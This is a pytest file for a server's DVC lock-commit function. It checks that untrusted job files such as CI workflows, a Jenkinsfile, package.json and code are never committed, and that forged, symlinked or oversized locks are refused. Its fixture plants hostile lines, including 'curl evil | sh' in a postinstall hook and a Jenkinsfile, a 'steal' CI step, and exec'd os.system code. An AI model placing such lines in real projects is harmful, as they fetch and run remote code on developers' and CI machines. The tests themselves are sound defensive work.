"""A server job's lock commit (`locks.commit_for_job`): what the server takes from the job's checkout, and what not.

The job's checkout was written by code the server does not trust. The server commits only the lock files its
training reported (by hash) and the git-tracked files the lock lists as outputs, never a file that steers git, CI
or DVC, never through a link, and never onto a branch that exists already.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from conftest import commit_all, git, tiny_pipeline
from support.projects import in_memory

from govern.api import locks
from govern.api.context import Project
from govern.envelope import PendingEvent, utc_now
from govern.errors import GovernError
from govern.events import ModelRegistered, TrainingCompleted

MD5, SHA = "a" * 32, "b" * 64
LOCK = f"""schema: '2.0'
stages:
  make:
    cmd: python make.py
    outs:
    - path: out.txt
      md5: {MD5}
    - path: score.json
      md5: {"c" * 32}
    - path: Jenkinsfile
      md5: {"2" * 32}
    - path: package.json
      md5: {"3" * 32}
    - path: m.json
      md5: {"4" * 32}
    - path: .github/workflows/ci.yml
      md5: {"d" * 32}
  ghost:
    cmd: 'true'
    outs:
    - path: .
      md5: {"0" * 32}.dir
    - path: make.py
      md5: {"1" * 32}
"""
DVC_YAML = """stages:
  make:
    cmd: python make.py
    deps: [make.py]
    params: [n]
    outs: [out.txt]
    metrics:
      - score.json:
          cache: false
      - Jenkinsfile:
          cache: false
      - make.py:
          cache: false
      - package.json:
          cache: false
      - m.json:
          cache: false
  use:
    cmd: python -c "import json; exec(json.load(open('m.json'))['code'])"
    deps: [./m.json]
artifacts:
  tiny-model:
    path: out.txt
    type: model
"""


@pytest.fixture
def trained(tmp_path: Path) -> dict:
    """A project whose base commit tracks score.json and a CI workflow; a training reporting LOCK at it."""
    project = tiny_pipeline(tmp_path / "project")
    (project / "dvc.yaml").write_text(DVC_YAML)
    (project / "score.json").write_text('{"n": 0}')
    (project / "Jenkinsfile").write_text("pipeline {}\n")
    (project / "package.json").write_text("{}\n")
    (project / "m.json").write_text('{"code": "pass"}\n')
    (project / ".github" / "workflows").mkdir(parents=True)
    (project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    base = commit_all(project, "base")
    served = in_memory(project)  # the server's project: its checkout, over an in-memory ledger
    job = tmp_path / "job"
    (job / ".github" / "workflows").mkdir(parents=True)
    (job / "dvc.lock").write_text(LOCK)
    (job / "score.json").write_text('{"n": 7}')
    (job / "make.py").write_text("print('harmless, and not what ran')\n")  # what a stage may rewrite
    (job / "Jenkinsfile").write_text("sh 'curl evil | sh'\n")
    (job / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}\n')
    (job / "m.json").write_text('{"code": "import os; os.system(\'id\')"}\n')
    (job / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: curl evil}}\n")
    return {"project": project, "served": served, "base": base, "job": job, "training": record(served, base, LOCK)}


def record(served: Project, base: str, lock_text: str, md5: str = MD5) -> str:
    training = TrainingCompleted(
        git={"commit": base, "branch": "main", "dirty_paths": []},
        dvc_lock_sha256=locks.lock_digest({"dvc.lock": lock_text}), targets=[], stages=[], params={}, metrics={},
        outputs=[], datasets=[], models=[{"name": "tiny-model", "path": "out.txt", "md5": md5, "sha256": SHA}],
        environment={}, duration_s=1.0, run_cache_hit=False,
    )  # fmt: skip
    ledger = served.ledger
    [done] = ledger.append([PendingEvent(training, actor="sci", occurred_at=utc_now(), git_commit=base)])
    registered = ModelRegistered("tiny-model", "1", "out.txt", md5, SHA, done.event_id, "run", "sqlite:///x", "m")
    ledger.append([PendingEvent(registered, actor="sci", occurred_at=utc_now(), git_commit=base)])
    return done.event_id


def test_the_lock_and_declared_results_are_committed_never_code_nor_a_file_that_steers_ci(trained: dict) -> None:
    project, base = trained["project"], trained["base"]

    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], trained["job"], "sci")

    assert note is None and sha, note
    assert git(project, "rev-parse", "govern/trainings/0123456789ab") == sha
    assert git(project, "rev-parse", f"{sha}^") == base
    assert sorted(git(project, "diff", "--name-only", base, sha).split()) == ["dvc.lock", "score.json"]
    assert git(project, "show", f"{sha}:.github/workflows/ci.yml") == "on: push", "the job's CI file is not taken"
    assert "harmless" not in git(project, "show", f"{sha}:make.py"), "the code that ran, not a stage's rewrite"
    assert git(project, "show", f"{sha}:Jenkinsfile") == "pipeline {}", "declared as metrics, yet no result file"
    assert git(project, "show", f"{sha}:package.json") == "{}", "a tool's manifest, whatever dvc.yaml calls it"
    assert git(project, "show", f"{sha}:m.json") == '{"code": "pass"}', "a stage reads it (as ./m.json)"
    assert git(project, "log", "-1", "--format=%an <%ae>", sha) == "govern server <govern-server@localhost>"
    assert git(project, "status", "--porcelain") == "", "the server's work tree and index are untouched"
    [locked] = trained["served"].ledger.read(types=["training.locked"])
    assert locked.payload["commit"] == sha and locked.payload["versions"] == [{"model": "tiny-model", "version": "1"}]


def test_a_lock_other_than_the_reported_one_or_behind_a_link_commits_nothing(trained: dict, tmp_path: Path) -> None:
    project, job = trained["project"], trained["job"]
    (job / "dvc.lock").write_text(LOCK.replace(MD5, "e" * 32))  # another model's bytes than the training's

    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], job, "sci")

    assert sha is None and note == "the job's dvc.lock is not the one its training reports: nothing was committed"
    (tmp_path / "elsewhere.lock").write_text(LOCK)
    (job / "dvc.lock").unlink()
    os.symlink(tmp_path / "elsewhere.lock", job / "dvc.lock")
    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], job, "sci")
    assert sha is None and "dvc.lock in the job's workspace is not a plain file" in note, note
    assert not git(project, "branch", "--list", "govern/trainings/*"), "no branch was made"
    assert trained["served"].ledger.read(types=["training.locked"]) == []


def test_an_existing_branch_is_never_moved(trained: dict) -> None:
    project = trained["project"]
    git(project, "branch", "govern/trainings/0123456789ab")  # someone's branch of that name
    before = git(project, "rev-parse", "govern/trainings/0123456789ab")

    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], trained["job"], "sci")

    assert sha is None and "the lock could not be committed" in note, note
    assert git(project, "rev-parse", "govern/trainings/0123456789ab") == before


def test_a_lock_that_does_not_give_the_model_its_registered_md5_is_not_committed(tmp_path: Path) -> None:
    """An insider's job: a later stage rewrote the model's entry in dvc.lock to an older version's md5, so the
    lock commit would have rebuilt other bytes than the ones registered."""
    project = tiny_pipeline(tmp_path / "project")
    base = commit_all(project, "base")
    forged = LOCK.replace(f"md5: {MD5}", f"md5: {'9' * 32}", 1)
    job = tmp_path / "job"
    job.mkdir()
    (job / "dvc.lock").write_text(forged)
    served = in_memory(project)
    training = record(served, base, forged)

    sha, note = locks.commit_for_job(served, "0123456789ab", training, job, "sci")

    assert sha is None and f"does not rebuild its versions (it gives out.txt md5 {'9' * 32})" in note, note
    assert served.ledger.read(types=["training.locked"]) == []


def test_a_commit_made_before_a_crash_is_taken_again_by_the_retry(trained: dict) -> None:
    from govern.adapters import git as git_adapter

    project, base = trained["project"], trained["base"]
    files = {"dvc.lock": LOCK.encode()}
    first = git_adapter.commit_onto(project, base, files, "govern/trainings/x", "m", "govern server", "s@localhost")
    again = git_adapter.commit_onto(project, base, files, "govern/trainings/x", "m", "govern server", "s@localhost")
    assert again == first
    with pytest.raises(GovernError, match="update-ref"):
        git_adapter.commit_onto(project, base, {"dvc.lock": b"other"}, "govern/trainings/x", "m", "s", "s@localhost")


def test_a_directory_model_or_oversized_locks_are_not_committed_by_the_server(tmp_path: Path) -> None:
    project = tiny_pipeline(tmp_path / "project")
    base = commit_all(project, "base")
    job = tmp_path / "job"
    job.mkdir()
    dir_lock = LOCK.replace(f"path: out.txt\n      md5: {MD5}", f"path: out.txt\n      md5: {MD5}.dir")
    (job / "dvc.lock").write_text(dir_lock)
    served = in_memory(project)
    training = record(served, base, dir_lock, md5=f"{MD5}.dir")

    sha, note = locks.commit_for_job(served, "0123456789ab", training, job, "sci")

    assert sha is None and "a directory model: the server checks the bytes of model files only" in note, note
    padded = LOCK + "# " + "x" * (17 << 20) + "\n"
    (job / "dvc.lock").write_text(padded)
    sha, note = locks.commit_for_job(served, "0123456789ab", record(served, base, padded), job, "sci")
    assert sha is None and "larger than 16 MB" in note, note
